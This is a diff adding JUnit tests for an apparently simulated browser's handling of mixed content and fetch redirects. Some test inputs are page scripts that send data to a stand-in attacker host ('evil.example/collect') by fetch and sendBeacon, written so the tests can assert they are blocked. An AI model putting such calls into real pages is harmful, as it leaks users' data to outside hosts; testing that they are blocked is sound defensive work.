@@ -292,6 +292,43 @@ class PageScriptsTest {
     }
 
     @Test
+    void aPageThatCameByTlsAsksNobodyWithoutIt() {
+        runs("fetch('http://evil.example/collect', {method: 'POST', mode: 'no-cors', body: 'x'})"
+                + ".catch(e => console.log('fetch', e.message));"
+                + "let x = new XMLHttpRequest(); x.open('GET', 'http://shop.example/products');"
+                + "x.onerror = () => console.log('xhr'); x.send();"
+                + "navigator.sendBeacon('http://evil.example/collect', 'x');");
+        assertThat(printed()).containsExactlyInAnyOrder("fetch Failed to fetch", "xhr");
+        assertThat(notes("mixed.blocked")).hasSize(3);
+        assertThat(lines()).noneMatch(line -> line.contains("http://")).noneMatch(line -> line.contains("collect"));
+    }
+
+    @Test
+    void anImageWithoutTlsIsAskedForWithItAndIsHeldBackWhereTheHostIsAnAddress() {
+        runs("new Image().src = 'http://evil.example/payload.js'; new Image().src = 'http://127.9.9.9/pixel';"
+                + "new Image().src = 'http://192.0.2.1/pixel';");
+        assertThat(notes("mixed.upgraded")).extracting(note -> note.get("to"))
+                .containsExactly("https://evil.example/payload.js");
+        assertThat(notes("mixed.blocked")).extracting(note -> note.get("url"))
+                .containsExactly("http://192.0.2.1/pixel");
+        assertThat(lab.world().exchanges().values()).extracting(exchange -> exchange.request().url())
+                .contains("https://evil.example/payload.js")
+                .doesNotContain("http://192.0.2.1/pixel");
+    }
+
+    @Test
+    void fetchFollowsARedirectAndSaysWhereItEnded() {
+        runs("let form = {method: 'POST', body: 'username=alice&password=alice-pw-1',"
+                + " headers: {'Content-Type': 'application/x-www-form-urlencoded'}};"
+                + "fetch('/login', form).then(a => console.log(a.status, a.redirected, a.type, a.url))"
+                + ".then(() => fetch('/login', {...form, redirect: 'manual'}))"
+                + ".then(a => console.log(a.status, a.redirected, a.type, a.url))"
+                + ".then(() => fetch('/login', {...form, redirect: 'error'})).catch(e => console.log(e.message))");
+        assertThat(printed()).containsExactly("200 true basic https://shop.example/", "0 false opaqueredirect ",
+                "Failed to fetch");
+    }
+
+    @Test
     void aScriptEndsWithItsTab() {
         runs("setTimeout(() => console.log('late'), 1000); console.log('early');");
         assertThat(printed()).containsExactly("early");
